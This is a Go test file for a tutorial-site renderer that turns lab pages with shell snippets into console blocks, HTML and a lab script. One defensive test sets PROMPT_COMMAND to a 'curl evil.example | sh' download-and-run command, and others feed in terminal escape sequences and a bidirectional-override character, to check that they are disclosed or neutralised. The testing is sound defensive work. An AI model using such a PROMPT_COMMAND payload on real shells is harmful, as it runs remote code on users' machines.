package render

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"handbook/content"
	"handbook/content/info"
	"handbook/content/record"
	"handbook/content/wording"
)

// record makes a lab's results of outputs, one for each command.
func recordOf(p *content.Page, outputs ...content.CommandResult) {
	p.Record = &content.Record{Format: record.Format, Page: p.Path, Results: content.Results{Machine: content.RecordMachine{Platform: "linux/amd64"}}}
	for _, s := range p.Tree().Snippets {
		if s.Role == info.Shown {
			continue
		}
		result := content.SnippetResult{Number: s.Number, Kind: s.Role.String(), Verdict: content.Passed}
		if s.Options.Skip != "" {
			result.Verdict, result.Reason = content.Skipped, s.Options.Skip
		}
		for _, c := range s.Commands {
			ran := content.CommandResult{}
			if len(outputs) > 0 {
				ran, outputs = outputs[0], outputs[1:]
			}
			ran.Text = c.Text
			result.Commands = append(result.Commands, ran)
		}
		p.Record.Snippets = append(p.Record.Snippets, result)
	}
}

func TestTwin(t *testing.T) {
	const head = "# p\n\n> Verified on 1 January 0001: %s snippets, on linux/amd64.\n\n"
	for _, test := range []struct{ name, in, counts, want string }{
		{"session", "```bash\necho hi\n# -> hi\n```\n", "1 of 1", "```console\n$ echo hi\nout\n```\n"},
		{"output fence", "```bash\necho hi\n```\n\n```output\nhi\n```\n\nEnd.\n", "2 of 2", "```console\n$ echo hi\nout\n```\n\n\nEnd.\n"},
		{"in a list", "1. One:\n\n   ```bash\n   echo hi\n   ```\n\n2. Two\n", "1 of 1", "1. One:\n\n   ```console\n   $ echo hi\n   out\n   ```\n\n2. Two\n"},
		{"on the item's line", "- ```bash\n  echo hi\n  ```\n", "1 of 1", "- ```console\n  $ echo hi\n  out\n  ```\n"},
		{"in a quotation", "> ```bash\n> echo hi\n> ```\n", "1 of 1", "> ```console\n> $ echo hi\n> out\n> ```\n"},
		{"hidden", "One.\n\n```bash hide\necho hi\n```\n\nTwo.\n", "1 of 1", "One.\n\n(1 command ran here that the page does not show.)\n\nTwo.\n"},
		{"hidden in a list", "- One.\n\n  ```text file=a hide\n  a\n  ```\n\n  Two.\n", "1 of 1", "- One.\n\n  (1 file was written here that the page does not show.)\n\n  Two.\n"},
		{"no fence", "```bash\necho hi\n```\n\n    code\n\n<pre>code</pre>\n", "1 of 3", "```console\n$ echo hi\nout\n```\n\n    code\n\n<pre>code</pre>\n"},
		{"skipped", "```bash skip=\"no reason\"\necho hi\n```\n", "0 of 1", "```bash\necho hi\n```\n\n(not verified: no reason)\n"},
		{"file", "```python file=app.py\nprint(1)\n```\n", "1 of 1", "`app.py`:\n\n```python\nprint(1)\n```\n"},
		{"fences within", "````text\n```\n````\n\n```bash\necho hi\n```\n", "1 of 1", "````text\n```\n````\n\n```console\n$ echo hi\nout\n```\n"},
		{"last line without an end", "```bash\necho hi\n```", "1 of 1", "```console\n$ echo hi\nout\n```\n"},
	} {
		t.Run(test.name, func(t *testing.T) {
			site := load(t, map[string]string{"p.md": "---\nlab: {}\n---\n" + test.in})
			p := site.Pages[0]
			recordOf(p, content.CommandResult{Output: []string{"\x1b[31mout\x1b[0m"}})
			files, err := Site(site, verified(site), Options{})
			if err != nil {
				t.Fatal(err)
			}
			want := fmt.Sprintf(head, test.counts) + test.want
			if diff := cmp.Diff(want, string(files["p.md"])); diff != "" {
				t.Errorf("-want +got\n%s", diff)
			}
		})
	}
}

// A script has what was verified, in order; what it does is tested where it runs.
func TestScript(t *testing.T) {
	for _, test := range []struct{ name, lab, in, want string }{
		{"commands", "", "```bash\na=1; echo $a\nfalse | true\n```\n", "run 6 'a=1; echo $a'\npipe=1 run 7 'false | true'\n"},
		{"lines", "", "```bash\ncat <<'EOF'\nit's\nEOF\n```\n", "run 6 <<'EOF_'\ncat <<'EOF'\nit's\nEOF\nEOF_\n"},
		{"file", "", "```text file=sub/it's.txt mode=0755\nEOF\n```\n", "put 5 755 'sub/it'\\''s.txt' <<'EOF_'\nEOF\nEOF_\n"},
		{"append", "", "```text file=a append\nx\ny\n```\n", "add 5 '' a <<'EOF'\nx\ny\nEOF\n"},
		{"skipped", "", "```bash skip=\"why not\"\nexit 1\n```\n\n```bash\ntrue\n```\n", "skip 5 'why not'\n\nrun 10 true\n"},
		{"hidden", "", "```bash hide\ntrue\n```\n", "run 6 true\n"},
		{"terminals", "", "```bash term=2 stay until=\"it listens\"\ncat\n```\n\n```bash term=2 type=\"^C\"\n```\n",
			"term=2 stay=1 until='it listens' run 6 cat\n\nterm=2 key=1 run 9 '^C'\n"},
		{"answers", "", "```bash type=\"ann\\n$DOCKERHUB_TOKEN\\n^D\"\ntrue\ntrue\n```\n",
			"answers=('ann\\n' \"$DOCKERHUB_TOKEN\"'\\n' '^D')\nlater=1 run 6 true\nrun 7 true\n"},
		{"no input", "", "```bash tty=no\ncat\n```\n", "run 6 <<'EOF'\n{ cat\n} < /dev/null\nEOF\n"},
		{"placeholder", "placeholders: {YOUR_NAME: it's, <your-town>: Rome}", "```bash\necho YOUR_NAME/<your-town>\n```\n",
			"ask MY_your_town '<your-town>' Rome\nask MY_YOUR_NAME YOUR_NAME 'it'\\''s'\nbegin ~/'a b'\n\nrun 6 'echo '\"$MY_YOUR_NAME\"/\"$MY_your_town\"\n"},
		{"hub", "hub: student, placeholders: {YOUR_ID: student}", "```bash\ndocker push YOUR_ID/app\ndocker push student/app; ls students/app\n```\n",
			"ask MY_YOUR_ID YOUR_ID ''\nsecret DOCKERHUB_TOKEN 'Password or access token for Docker Hub'\nbegin ~/'a b'\n\n" +
				"run 6 'docker push '\"$MY_YOUR_ID\"/app\nrun 7 'docker push '\"$MY_YOUR_ID\"'/app; ls students/app'\n"},
		{"hub without a placeholder", "hub: student", "```bash type=\"student\\n\"\ndocker login -u student\n```\n",
			"ask MY_Docker_Hub_user_name 'Docker Hub user name' ''\nsecret DOCKERHUB_TOKEN 'Password or access token for Docker Hub'\nbegin ~/'a b'\n\n" +
				"answers=(\"$MY_Docker_Hub_user_name\"'\\n')\nrun 6 'docker login -u '\"$MY_Docker_Hub_user_name\"\n"},
		{"escape sequences", "", "```bash type=\"hi\\e[8m'\x7f\\n\"\ntrue\n```\n", `answers=($'hi\x1b[8m\'\x7f\\n')` + "\nrun 6 true\n"},
		{"environment", "env: {A: 'b c'}", "```bash\ntrue\n```\n", "variables() {\n\texport A='b c'\n}\nbegin ~/'a b'\n\nrun 6 true\n"},
	} {
		t.Run(test.name, func(t *testing.T) {
			lab := "lab: {dir: '~/a b'}"
			if test.lab != "" {
				lab = "lab: {dir: '~/a b', " + test.lab + "}"
			}
			site := load(t, map[string]string{"p.md": "---\ntitle: \"two\\nli\\u202enes\"\n" + lab + "\n---\n" + test.in})
			recordOf(site.Pages[0])
			files, err := Site(site, verified(site), Options{})
			if err != nil {
				t.Fatal(err)
			}
			want := test.want
			if !strings.Contains(want, "begin ") {
				want = "begin ~/'a b'\n\n" + want
			}
			if i := bytes.IndexFunc(files["p/lab.sh"], wording.Obeyed); i >= 0 {
				t.Errorf("a terminal obeys the script: %q", files["p/lab.sh"][i:i+8])
			}
			_, got, _ := strings.Cut(string(files["p/lab.sh"]), "\npage=p.md\noption '' \"$@\"\n")
			if diff := cmp.Diff(want+"\nsay 'all is done'\n", got); diff != "" {
				t.Errorf("-want +got\n%s", diff)
			}
		})
	}
}

// What is copied and stands in no snippet is named beside the button: variables,
// with which a shell can be made to run something.
func TestPasteNamesVariables(t *testing.T) {
	site := load(t, map[string]string{"p.md": "---\nlab: {env: {PROMPT_COMMAND: 'curl evil.example | sh', A: \"b\\e\"}}\n---\n\n## One\n\n```bash\necho a\n```\n\n```bash\necho b\n```\n\n## Two\n\n```bash\necho c\n```\n\n```bash\necho d\n```\n"})
	recordOf(site.Pages[0])
	files, err := Site(site, verified(site), Options{})
	if err != nil {
		t.Fatal(err)
	}
	const want = `</template> <span class="answers sets">It also sets: <code>A=$&#39;b\x1b&#39;</code>, <code>PROMPT_COMMAND=&#39;curl evil.example | sh&#39;</code></span></li>`
	if page := string(files["p/index.html"]); strings.Count(page, want) != 1 || strings.Count(page, "It also sets") != 1 {
		t.Errorf("%d times, want once: %s", strings.Count(page, "It also sets"), want)
	}
}
